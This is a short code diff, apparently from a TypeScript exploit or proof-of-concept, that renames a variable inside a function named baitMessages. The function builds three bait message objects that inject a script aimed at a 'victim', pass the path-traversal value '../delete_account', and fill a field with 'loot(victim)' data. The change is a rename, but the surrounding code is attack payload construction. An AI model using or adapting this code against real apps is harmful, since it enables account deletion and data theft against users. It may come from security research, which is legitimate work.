@@ -97,7 +97,7 @@ export function baitMessages(
   application: string,
 ): Record<'script' | 'row' | 'card', JsonObject> {
   const script_param = { post_collection: '../delete_account', hash_field_value: loot(victim) };
-  const own = { application, app_user_id: 'APP-USER', user_id_destination: '', delete: 0 };
+  const addressedTo = { application, app_user_id: 'APP-USER', user_id_destination: '', delete: 0 };
   const layoutOf = (prefix: string): Json => ({
     ...linear(
       { orientation: 'vertical' },
@@ -109,19 +109,19 @@ export function baitMessages(
   });
   return {
     script: {
-      ...own,
+      ...addressedTo,
       type: 'load_form_script',
       key_data: 'load_form_script',
       data: { script: script(victim), script_param: { post_collection: '../delete_account' } },
     },
     row: {
-      ...own,
+      ...addressedTo,
       id: 'r1',
       on_top: 1,
       data: { layout: layoutOf('row'), script: script(victim), script_param },
     },
     card: {
-      ...own,
+      ...addressedTo,
       id: 'c1',
       on_top: 1,
       data: { layout: layoutOf('card'), script: script(victim), script_param },
